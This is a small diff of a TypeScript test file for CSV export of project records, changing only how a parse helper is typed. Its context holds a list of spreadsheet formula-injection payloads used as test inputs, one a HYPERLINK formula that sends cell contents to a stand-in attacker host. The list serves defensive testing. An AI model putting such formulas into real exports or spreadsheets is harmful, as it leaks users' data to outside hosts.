@@ -23,7 +23,7 @@ const record = (over: Partial<ProjectRecord>): ProjectRecord => ({
   countries: [{ code: 'SN', nameEn: 'Senegal', nameFr: 'Sénégal' }],
   ...over,
 });
-const rows = (csv: string) => parse(csv, { bom: true, columns: true }) as Record<string, string>[];
+const rows = (csv: string) => parse<Record<string, string>>(csv, { bom: true, columns: true });
 
 const HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1'];
 
